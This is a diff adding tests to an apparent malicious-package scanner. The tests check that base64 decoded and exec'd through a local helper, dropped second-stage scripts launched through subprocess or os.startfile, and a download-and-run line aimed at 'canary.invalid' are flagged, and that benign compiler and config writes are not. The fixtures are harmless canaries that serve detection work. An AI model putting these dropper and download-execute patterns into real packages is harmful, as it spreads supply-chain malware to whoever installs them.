@@ -196,3 +196,114 @@ def test_a_flag_bound_twice_is_not_taken_for_a_constant(tmp_path: Path) -> None:
     )
     found = scan(tmp_path, {"pkg-1.0/pkg/__init__.py": module})
     assert worst(found) is Severity.CRITICAL
+
+
+# --- decoders a package defines for itself ----------------------------------------------------
+
+CANARY_B64 = "b3BlbignY2FuYXJ5LnR4dCcsICd3Jyk="
+"""`open('canary.txt', 'w')` in base64."""
+
+
+@pytest.mark.parametrize(
+    "decoder",
+    [
+        "def b64d(s):\n    raw = s.encode('ascii')\n    out = base64.b64decode(raw)\n"
+        "    return out.decode('ascii')\n",
+        "b64d = lambda s: base64.b64decode(s)\n",
+        "def b64d(s: str) -> str:\n    '''Unpack.'''\n"
+        "    return base64.b64decode(s.encode('utf8')).decode('utf8')\n",
+    ],
+)
+def test_exec_of_a_local_decoder_is_decoded_exec(tmp_path: Path, decoder: str) -> None:
+    module = f"import base64\n{decoder}exec(b64d('{CANARY_B64}'))\n"
+    found = scan(tmp_path, {"pkg-1.0/pkg/__init__.py": module})
+    assert worst(found, "code-exec-decoded") is Severity.CRITICAL
+
+
+def test_a_helper_that_does_more_than_decode_is_not_a_decoder(tmp_path: Path) -> None:
+    module = "import json\ndef load(s):\n    return json.loads(s)\nexec(load('{}'))\n"
+    found = scan(tmp_path, {"pkg-1.0/pkg/__init__.py": module})
+    assert worst(found, "code-exec-decoded") is Severity.INFO
+
+
+# --- second stages written to a file and launched ---------------------------------------------
+
+STAGE = "import os\nos.system('echo canary')\n"
+
+
+@pytest.mark.parametrize(
+    "launch",
+    [
+        "subprocess.Popen('stage.vbs', shell=True)",
+        "subprocess.call(f'{sys.executable} stage.vbs')",
+        "os.startfile(path)",
+        "subprocess.Popen(['pythonw', path])",
+    ],
+)
+def test_launching_a_file_just_written_is_execution(tmp_path: Path, launch: str) -> None:
+    setup = (
+        "import os, sys, subprocess, base64, tempfile\n"
+        "path = os.path.join(tempfile.gettempdir(), 'stage.vbs')\n"
+        f"with open(path, 'w') as f:\n    f.write({STAGE!r})\n"
+        f"{launch}\n"
+    )
+    found = scan(tmp_path, {"pkg-1.0/setup.py": setup})
+    assert worst(found, "code-dropped-exec") is Severity.CRITICAL
+
+
+def test_a_launch_in_a_function_defined_above_the_write_is_found(tmp_path: Path) -> None:
+    module = (
+        "import subprocess, sys\n"
+        "def go():\n    subprocess.call([sys.executable, 'stage.py'])\n"
+        "with open('stage.py', 'w') as f:\n    f.write('print(1)')\n"
+        "go()\n"
+    )
+    found = scan(tmp_path, {"pkg-1.0/pkg/__init__.py": module})
+    assert worst(found, "code-dropped-exec") is Severity.CRITICAL
+
+
+def test_the_written_text_is_analysed_as_code(tmp_path: Path) -> None:
+    stage = "import os, urllib.request\nos.system(urllib.request.urlopen('https://canary.invalid').read())\n"
+    module = f"with open('stage.py', 'w') as f:\n    f.write({stage!r})\n"
+    found = scan(tmp_path, {"pkg-1.0/pkg/__init__.py": module})
+    assert worst(found, "code-download-exec") >= Severity.HIGH
+
+
+@pytest.mark.parametrize(
+    "benign",
+    [
+        # A compiler probe: a C file written and handed to the compiler.
+        "with open('probe.c', 'w') as f:\n    f.write('int main(void){return 0;}')\n"
+        "subprocess.call(['cc', 'probe.c'])\n",
+        # A configuration file written, then a tool run that reads it.
+        "with open('conf.toml', 'w') as f:\n    f.write('[x]')\n"
+        "subprocess.call(['tool', '--config', 'conf.toml'])\n",
+        # A file written and a different program run.
+        "with open('out.bin', 'w') as f:\n    f.write('x')\nsubprocess.call(['git', 'status'])\n",
+    ],
+)
+def test_writing_inputs_for_other_programs_is_not_a_second_stage(tmp_path: Path, benign: str) -> None:
+    found = scan(tmp_path, {"pkg-1.0/setup.py": "import subprocess\n" + benign})
+    assert worst(found, "code-dropped-exec") is Severity.INFO
+
+
+def test_a_build_tool_running_a_script_template_it_wrote_on_request_is_not_high(tmp_path: Path) -> None:
+    # The mypyc shape: a plain template written, then run with the interpreter, inside a function.
+    module = (
+        "import subprocess, sys\n"
+        "def build(setup_file):\n"
+        "    with open(setup_file, 'w') as f:\n        f.write('from setuptools import setup\\nsetup()\\n')\n"
+        "    subprocess.run([sys.executable, setup_file, 'build_ext'])\n"
+    )
+    found = scan(tmp_path, {"tool/__main__.py": module}, TargetKind.WHEEL)
+    assert worst(found) < Severity.HIGH
+
+
+def test_a_variable_of_the_same_name_in_another_function_is_another_file(tmp_path: Path) -> None:
+    module = (
+        "import os\n"
+        "def fetch(filename, data):\n    with open(filename, 'wb') as f:\n        f.write(data)\n"
+        "def checkout(url, filename):\n    os.system('svn checkout %s %s' % (url, filename))\n"
+    )
+    found = scan(tmp_path, {"tool/index.py": module}, TargetKind.WHEEL)
+    assert worst(found, "code-dropped-exec") is Severity.INFO
